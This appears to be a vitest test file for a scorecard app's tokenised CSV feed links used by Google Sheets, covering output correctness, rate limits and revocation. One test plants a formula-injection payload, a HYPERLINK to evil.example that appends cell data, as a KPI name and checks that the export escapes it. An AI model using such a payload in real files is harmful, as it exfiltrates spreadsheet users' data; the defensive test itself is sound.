import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "@/lib/db/client";
import { accountWithScorecards, createTestApi, jsonInit, smallScorecard, teammate, type TestApi } from "@/lib/testing/api";
import { testDatabases } from "@/lib/testing/databases";
import { serveOverHttp } from "@/lib/testing/http-api";

describe.each(testDatabases)("spreadsheet links on $name", ({ open }) => {
  let database: Database;
  let api: TestApi;
  let http: Awaited<ReturnType<typeof serveOverHttp>>;
  let owner: Awaited<ReturnType<typeof accountWithScorecards>>;
  let docId: number;
  const call = async (method: string, path: string, auth: Record<string, string>, body?: unknown) => {
    const response = await api.call(path, body === undefined ? { method, headers: auth } : jsonInit(method, body, auth));
    return { status: response.status, json: await response.json().catch(() => null) };
  };
  /** The link as Google Sheets' IMPORTDATA fetches it: plain GET, no cookie, no header. */
  const fetchLink = (url: string, query = "") => fetch(`${http.url}/feeds/${url.split("/feeds/")[1]}${query}`);

  beforeAll(async () => {
    database = await open();
    api = createTestApi(database.db, undefined, { rateLimitPerHour: 1000 });
    http = await serveOverHttp(api);
    owner = await accountWithScorecards(api, database.db, "sheets@example.com", [smallScorecard("Board figures")]);
    docId = owner.scorecardIds[0]!;
    const kpis = (await call("GET", `/api/document/${docId}/kpi/list`, owner.auth)).json.items as { name: string; guid: string }[];
    const sales = kpis.find((k) => k.name === "Sales")!.guid;
    const costs = kpis.find((k) => k.name === "Costs")!.guid;
    const items = ["2025-01-15", "2025-02-15", "2025-03-15", "2025-04-15"].flatMap((date, i) => [
      { guid: sales, date, value: 50 + i * 10 },
      { guid: costs, date, value: 30, target: 25 },
    ]);
    await call("POST", `/api/document/${docId}/kpi/batch/set-values`, owner.auth, { items });
  });
  afterAll(async () => {
    await http.close();
    await database.close();
  });

  it("answers the scorecard's figures as CSV with no login, the same as the grouped read, one call of the creator's account each", async () => {
    const created = await call("POST", `/api/document/${docId}/feeds`, owner.auth);
    expect(created.status).toBe(201);
    expect(created.json.url).toMatch(/\/rest\/feeds\/gfd_[\w-]{32}$/);
    expect(JSON.stringify((await call("GET", "/api/feeds", owner.auth)).json)).not.toContain("gfd_");
    const answer = await fetchLink(created.json.url, "?period=QUARTER&from=2025-01-01&to=2025-12-31");
    expect(answer.status).toBe(200);
    expect(answer.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const rows = parse(await answer.text(), { columns: true }) as Record<string, string>[];
    const grouped = (await call("GET", `/api/document/${docId}/kpi/indicators/grouped-value/QUARTER/2025-01-01/2025-12-31`, owner.auth)).json;
    const expected = grouped.items.flatMap(
      (s: { name: string; guid: string; points: { start: string; value: number | null; target: number | null; score: number | null; status: string }[] }) =>
        s.points.map((p) => ({
          KPI: s.name,
          GUID: s.guid,
          "Period start": p.start,
          Value: p.value === null ? "" : String(p.value),
          Target: p.target === null ? "" : String(p.target),
          Score: p.score === null ? "" : String(p.score),
          Status: p.status,
        })),
    );
    expect(rows).toEqual(expected);
    expect(rows.find((r) => r.KPI === "Sales" && r["Period start"] === "2025-01-01")!.Value).toBe("180");
    const remaining = Number((await fetchLink(created.json.url)).headers.get("X-RateLimit-Remaining"));
    expect(Number((await fetchLink(created.json.url)).headers.get("X-RateLimit-Remaining"))).toBe(remaining - 1);
    expect((await fetchLink(created.json.url, "?period=FORTNIGHT")).status).toBe(400);
  });

  it("stops answering once revoked, or once its creator is deactivated or may no longer read the scorecard", async () => {
    const first = (await call("POST", `/api/document/${docId}/feeds`, owner.auth)).json;
    expect((await call("DELETE", `/api/feeds/${first.id}`, owner.auth)).status).toBe(204);
    expect((await fetchLink(first.url)).status).toBe(404);

    const expert = await teammate(api, database.db, owner.accountId, "analyst@example.com", "expert");
    expect((await call("POST", `/api/document/${docId}/feeds`, expert.auth)).status).toBe(404);
    await call("PUT", `/api/document/${docId}/sharing`, owner.auth, { users: [{ userId: expert.userId, access: "read" }] });
    const theirs = (await call("POST", `/api/document/${docId}/feeds`, expert.auth)).json;
    expect((await fetchLink(theirs.url)).status).toBe(200);
    await call("PUT", `/api/document/${docId}/sharing`, owner.auth, { users: [] });
    expect((await fetchLink(theirs.url)).status).toBe(404);
    await call("PUT", `/api/document/${docId}/sharing`, owner.auth, { users: [{ userId: expert.userId, access: "read" }] });
    expect((await fetchLink(theirs.url)).status).toBe(200);
    await call("PATCH", `/api/users/${expert.userId}`, owner.auth, { active: false });
    expect((await fetchLink(theirs.url)).status).toBe(404);
    const viewer = await teammate(api, database.db, owner.accountId, "board@example.com", "viewer");
    expect((await call("POST", `/api/document/${docId}/feeds`, viewer.auth)).status).toBe(403);
  });

  it("neutralises a KPI name a spreadsheet would run as a formula, as every CSV export does", async () => {
    const kpis = (await call("GET", `/api/document/${docId}/kpi/list`, owner.auth)).json.items as { name: string; guid: string }[];
    const costs = kpis.find((k) => k.name === "Costs")!;
    const hostile = '=HYPERLINK("https://evil.example/?d="&A2,"Costs")';
    expect((await call("PATCH", `/api/document/${docId}/kpi/${costs.guid}`, owner.auth, { name: hostile })).status).toBe(200);
    const link = (await call("POST", `/api/document/${docId}/feeds`, owner.auth)).json.url as string;
    const text = await (await fetchLink(link, "?period=QUARTER&from=2025-01-01&to=2025-03-31")).text();
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.GUID === costs.guid)).toMatchObject({ KPI: `'${hostile}`, Value: "30" });
    expect(text).not.toMatch(/^=|,=/m);
    await call("PATCH", `/api/document/${docId}/kpi/${costs.guid}`, owner.auth, { name: "Costs" });
  });
});
